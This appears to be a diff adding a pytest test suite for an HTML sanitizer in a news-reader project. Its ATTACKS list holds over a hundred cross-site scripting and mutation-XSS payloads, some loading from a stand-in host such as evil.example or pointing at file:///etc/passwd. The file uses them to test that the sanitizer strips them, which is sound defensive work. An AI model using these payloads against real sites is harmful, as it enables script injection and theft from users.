@@ -1,0 +1,411 @@
+"""Only harmless markup is left of HTML from outside, and all of its words."""
+
+from urllib.parse import urlsplit
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from reader import dom, sanitize
+from reader.sanitize import KEPT, TAGS, clean, title
+
+BASE = "https://example.org/news/today.html"
+
+
+def assert_harmless(html: str) -> None:
+    """Nothing in the HTML can run, load from the disk or look like something else."""
+    tree = dom.parse(html)
+    for element in () if tree is None else tree.iter():
+        assert element.tag in TAGS | {"html", "body"}
+        assert set(map(str, element.attrib)) <= KEPT.get(element.tag, set())
+        for name in ("href", "src"):
+            if name in element.attrib:
+                parts = urlsplit(str(element.attrib[name]))
+                assert parts.scheme == "mailto" or (parts.scheme in ("http", "https") and parts.hostname)
+
+
+def reports(html: str) -> list[str]:
+    return [dropped.text for dropped in clean(html, BASE).dropped]
+
+
+ATTACKS = [
+    # scripts
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script/x>alert(1)</script\n>",
+    "<script>alert(1)",
+    "<script><!--</script><script>alert(1)</script>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<plaintext><script>alert(1)</script>",
+    "<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>",
+    "<title><script>alert(1)</script></title>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><?php echo '<script>alert(1)</script>' ?>",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "<!--><script>alert(1)</script>-->",
+    "<%<!--'%><script>alert(1);</script -->",
+    # handlers
+    "<p onclick=alert(1)>x",
+    "<img src=x onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=x OnErRoR\n=\nalert(1)>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<a onmouseover='alert(1)' href='https://example.org/'>x</a>",
+    "<input autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    '<p title="a" onfocus="alert(1)" tabindex=1 id=x name=y>x',
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    # links
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='JaVaScRiPt:alert(1)'>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href='java&#10;script:alert(1)'>x</a>",
+    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
+    "<a href=' \x01 javascript:alert(1)'>x</a>",
+    "<a href='javascript&#58;alert(1)'>x</a>",
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
+    "<a href='file:///etc/passwd'>x</a>",
+    "<a href='FILE://server/share'>x</a>",
+    "<a href='qrc:/x'>x</a>",
+    "<a href='\\\\server\\share'>x</a>",
+    "<a href='blob:https://example.org/1'>x</a>",
+    "<a href='view-source:https://example.org/'>x</a>",
+    "<a href='feed:javascript:alert(1)'>x</a>",
+    "<a href='https:javascript:alert(1)'>x</a>",
+    "<a href='https://[::1'>x</a>",
+    "<a href='https://user:word@example.org/'>x</a>",
+    "<a href='mailto:a@example.org\" onclick=\"alert(1)'>x</a>",
+    "<area href=javascript:alert(1)>",
+    "<a ping=https://evil.example/ href=https://example.org/>x</a>",
+    "<blockquote cite=javascript:alert(1)>x</blockquote>",
+    "<img longdesc=javascript:alert(1) src=https://example.org/a.png>",
+    "<q cite=file:///etc/passwd>x</q>",
+    # pictures
+    "<img src=javascript:alert(1)>",
+    "<img src='file:///etc/passwd'>",
+    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
+    "<img src=\\\\server\\share\\a.png>",
+    "<img data-src=javascript:alert(1)>",
+    "<img srcset='javascript:alert(1) 2x, file:///a.png 3x'>",
+    "<picture><source srcset=javascript:alert(1)><img></picture>",
+    "<image src=javascript:alert(1)>",
+    "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
+    "<img usemap=#m src=https://example.org/a.png><map name=m><area href=javascript:alert(1)></map>",
+    "<table background=javascript:alert(1)><tr><td background=https://evil.example/>x</table>",
+    # foreign content and mutation
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x>'/></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style>"
+    "<a title=\"</style><img src='#' onerror='alert(1)'>\">",
+    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
+    "<noframes><style></noframes><img src=x onerror=alert(1)></style>",
+    "<select><style></select><img src=x onerror=alert(1)></style>",
+    '<p><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
+    "<a title='`><img src=x onerror=alert(1)>`'>x</a>",
+    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
+    # frames, plug-ins, forms
+    "<iframe src=https://evil.example/></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<frameset><frame src=javascript:alert(1)></frameset>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<applet code=x></applet>",
+    "<form action=//evil.example><input name=word><button formaction=javascript:alert(1)>x</button></form>",
+    "<isindex action=javascript:alert(1) type=image>",
+    "<keygen onfocus=alert(1) autofocus>",
+    "<dialog open onclose=alert(1)>x</dialog>",
+    "<portal src=https://evil.example/></portal>",
+    "<fencedframe src=https://evil.example/></fencedframe>",
+    # the page's head
+    "<base href=javascript:alert(1)//><a href=x>x</a>",
+    "<base href=file:///><img src=etc/passwd>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<link rel=import href=data:text/html,x>",
+    # looks
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>*{background:url(https://evil.example/)}</style>",
+    "<p style='background:url(javascript:alert(1))'>x",
+    "<p style='position:fixed;top:0;left:0;width:100%'>x",
+    "<p class=toolbar id=window>x",
+    "<font color=red face='x' size='+7'>x</font>",
+    "<p dir=rtl lang=x contenteditable draggable=true>x",
+    # shapes
+    "<div>" * 500 + "x",
+    "<table><tr><td>" * 50 + "x",
+    "<b>" * 500 + "x",
+    "<a href=https://example.org/>" * 500 + "x",
+    "<p>" + "".join(f"<b id={n}>x</b></p><p>" for n in range(500)),
+    "<ul><li>" * 300 + "x",
+    "<a\0href=javascript:alert(1)>x</a>",
+    "<img src=x\0 onerror\0=alert(1)>",
+    "<p title=\ud800 onclick=alert(1)>x",
+    "\ufeff<script>alert(1)</script>",
+    "＜script＞alert(1)＜/script＞",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<",
+    "</",
+    "<!",
+    "<a href=",
+    "<a href='x",
+    "&",
+    "&#0;&#xD800;&#x110000;&#13;&#x1b;",
+    "<table>&#27;x<td>y",
+    "<a href='mailto:&#27;@example.org'>x</a>",
+]
+
+
+@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
+def test_nothing_harmful_gets_through(attack: str) -> None:
+    for html in (
+        attack,
+        f"<p>before {attack} <p>after",
+        f"<table><tr><td>{attack}</table>",
+        f"<pre>{attack}",
+    ):
+        cleaned = clean(html, BASE).html
+        assert_harmless(cleaned)
+        assert clean(cleaned).html == cleaned
+
+
+@pytest.mark.parametrize(
+    "base", ["javascript:alert(1)//", "file:///etc/", "data:text/html,", "", "\0", "https://["]
+)
+def test_a_base_that_is_no_web_address_is_not_used(base: str) -> None:
+    assert clean("<a href=passwd>x</a><img src=shadow>", base).html == "x"
+
+
+def test_addresses_become_whole() -> None:
+    html = "<a href='../a b.html?q=é#here'>x</a> <a href=//example.com>y</a> <img src=p.png alt=z>"
+    assert clean(html, BASE).html == (
+        '<a href="https://example.org/a%20b.html?q=%C3%A9#here">x</a> <a href="https://example.com/">y</a>'
+        ' <img src="https://example.org/news/p.png" alt="z">'
+    )
+
+
+def test_a_link_to_write_to_somebody_stays() -> None:
+    assert clean("<a href='mailto:desk@example.org'>x</a>").html == '<a href="mailto:desk@example.org">x</a>'
+
+
+def test_what_makes_a_story_readable_stays() -> None:
+    html = (
+        "<h2>One</h2><p>two <b>three</b> <em>four</em><br>five<sup>6</sup></p><blockquote>seven</blockquote>"
+        '<ol start="3"><li>eight</li></ol><pre><code>nine\n  ten</code></pre><hr>'
+        '<figure><img src="https://example.org/a.png" alt="b" width="9" height="9">'
+        "<figcaption>c</figcaption></figure><table><thead>"
+        '<tr><th colspan="2">d</th></tr></thead><tbody><tr><td>e</td><td>f</td></tr></tbody></table>'
+    )
+    assert clean(html).html == html
+    assert clean(html).dropped == ()
+
+
+def test_a_page_within_a_page_leaves_its_body() -> None:
+    html = (
+        "<html><head><title>No</title></head><body><section>One</section><section>Two</section></body></html>"
+    )
+    assert clean(html).html == "<div>One</div><div>Two</div>"
+
+
+def test_words_keep_their_order_around_a_table_that_is_none() -> None:
+    html = "<table>one<b>two</b><tr>three<i>four</i><td>six</td>five</tr></table><td>seven</td><td>eight</td>"
+    assert clean(html).html == (
+        "one<b>two</b>three<i>four</i>five<table><tbody><tr><td>six</td></tr></tbody></table>"
+        "<div>seven</div><div>eight</div>"
+    )
+
+
+def test_only_three_tables_stand_in_each_other() -> None:
+    assert clean("<table><tr><td>" * 9 + "x").html.count("<table>") == 3
+
+
+def test_no_element_is_deeper_than_a_hundred() -> None:
+    assert clean("<div>" * 5_000 + "x" + "</div>" * 5_000 + "y").html.count("<div>") <= 100
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<img width=1 height=1 src=a.gif>",
+        "<img width='0' height='0' src=a.gif>",
+        "<img height=1px src=a.gif>",
+        "<img style='width: 1px; height:1px' src=a.gif>",
+        "<img style='DISPLAY:none' src=a.gif>",
+        "<img style='visibility: hidden' src=a.gif>",
+    ],
+)
+def test_a_picture_nobody_sees_is_a_tracker(html: str) -> None:
+    assert clean(html, BASE).html == ""
+    assert "tracking pixel" in reports(html)
+
+
+@pytest.mark.parametrize(
+    ("html", "expected"),
+    [
+        ("<script>x</script>", "script element"),
+        ("<p onclick=x>", "onclick attribute"),
+        ("<a href='JAVA\tscript:x'>y</a>", "javascript: link"),
+        ("<a href=file:///x>y</a>", "file: link"),
+        ("<a href=https://[>y</a>", "https: link"),
+        ("<a href=//[>y</a>", "broken link"),
+        ("<img src=ftp://x/y.png>", "ftp: picture"),
+        ("<iframe srcdoc=x></iframe>", "iframe element"),
+        ("<form action=x>y</form>", "form element"),
+        ("<p style=x>y", "style attribute"),
+        ("<svg></svg>", "svg element"),
+        ("<meta http-equiv=refresh>x", "meta element"),
+    ],
+)
+def test_what_was_dropped_is_said_once(html: str, expected: str) -> None:
+    assert reports(html * 2).count(expected) == 1
+
+
+def test_what_is_merely_unknown_is_not_worth_a_word() -> None:
+    assert (
+        reports("<section><font size=7><blink id=a class=b>x</blink></font><a name=y>z</a></section>") == []
+    )
+
+
+def test_pictures_of_readers_without_javascript_replace_those_that_wait_for_it() -> None:
+    html = "<img src=data:image/gif;base64,x><noscript>Enable it! <img src=a.jpg> now</noscript>"
+    assert clean(html, BASE).html == '<img src="https://example.org/news/a.jpg">'
+    assert clean("<img src=a.jpg>" + html, BASE).html.count("<img") == 1
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "&" * 20_000,
+        "<" * 20_000,
+        "a" * 100_000,
+        "<script></script>x" * 2_000,
+        "<noscript><img src=http://a.example/c></noscript>x" * 1_000,
+        "<table>" + "<b>x</b>" * 5_000,
+        "<picture>" + "<img><source srcset=a>" * 2_000,
+        "<img srcset='" + "a 1x, " * 20_000 + "'>",
+        "<a href=mailto:" + "a" * 20_000 + ">x",
+        "<p " + "a=b " * 20_000 + ">x",
+    ],
+    ids=lambda html: html[:12],
+)
+def test_html_of_any_length_is_cleaned(html: str) -> None:
+    assert_harmless(clean(html).html)
+
+
+def test_html_that_never_settles_is_reduced_to_its_words(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sanitize, "ROUNDS", 0)
+    assert clean("<p>One &amp; <b>two</b></p>").html == "One &amp; two"
+
+
+PIECES = st.sampled_from(
+    [
+        *(f"<{tag}>" for tag in sorted(TAGS)),
+        *(f"</{tag}>" for tag in sorted(TAGS)),
+        *(
+            "<script>",
+            "</script>",
+            "<style>",
+            "<svg>",
+            "</svg>",
+            "<math>",
+            "<mtext>",
+            "<mglyph>",
+            "<noscript>",
+        ),
+        *(
+            "<form>",
+            "<section>",
+            "</section>",
+            "<select>",
+            "<option>",
+            "<textarea>",
+            "<title>",
+            "<!--",
+            "-->",
+        ),
+        *("<a href='b c'>", "<a href=javascript:x>", "<img src='d\" e'>", "<img data-src=//f/g>", "<body>"),
+        *(
+            "one",
+            " two ",
+            "\n",
+            "&lt;",
+            "&amp;lt;",
+            "&nbsp;",
+            "&#13;",
+            "\0",
+            "\ud800",
+            '"',
+            "'",
+            "<",
+            ">",
+            "=",
+        ),
+    ]
+)
+
+
+@given(st.lists(PIECES, max_size=30))
+def test_cleaning_what_is_clean_changes_nothing(pieces: list[str]) -> None:
+    cleaned = clean("".join(pieces), BASE).html
+    assert clean(cleaned).html == cleaned
+    assert_harmless(cleaned)
+
+
+@given(st.text())
+def test_plain_words_stay(text: str) -> None:
+    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
+    tree = dom.parse(clean(escaped).html)
+    assert ("" if tree is None else dom.text(tree)).split() == dom.plain(text).split()
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("Plain words", "Plain words"),
+        ("  Two \n lines\t&nbsp; here ", "Two lines here"),
+        ("Fish &amp; chips", "Fish & chips"),
+        ("Fish &amp;amp; chips", "Fish & chips"),
+        ("&lt;b&gt;Bold&lt;/b&gt; &amp; <i>brave</i>", "Bold & brave"),
+        ("&amp;lt;b&amp;gt;Bold&amp;lt;/b&amp;gt;", "Bold"),
+        ("5 &lt; 6, 7 > 3 and a<3", "5 < 6, 7 > 3 and a<3"),
+        ("<script>alert(1)</script>News", "News"),
+        ("&lt;img src=x onerror=alert(1)&gt;News", "News"),
+        ("<script>News", "News"),
+        ("Safe\u202egnp.exe", "Safegnp.exe"),
+        ("a\0b\x1bc\ud800d\u200be\xadf", "abcdef"),
+        ("‘Evidence’ — “quoted”", "‘Evidence’ — “quoted”"),
+        ("می‌خواهم", "می‌خواهم"),
+        ("", ""),
+    ],
+)
+def test_a_headline_is_plain_text(text: str, expected: str) -> None:
+    assert title(text) == expected
+
+
+def test_a_headline_has_an_end() -> None:
+    assert title("a" * 5_000) == "a" * 999 + "…"
+    assert len(title("<script>" * 100_000 + "x")) <= 1_000
+
+
+@given(st.text())
+def test_any_text_gives_a_headline_in_one_line(text: str) -> None:
+    shown = title(text)
+    assert shown == " ".join(shown.split())
+    shown.encode()
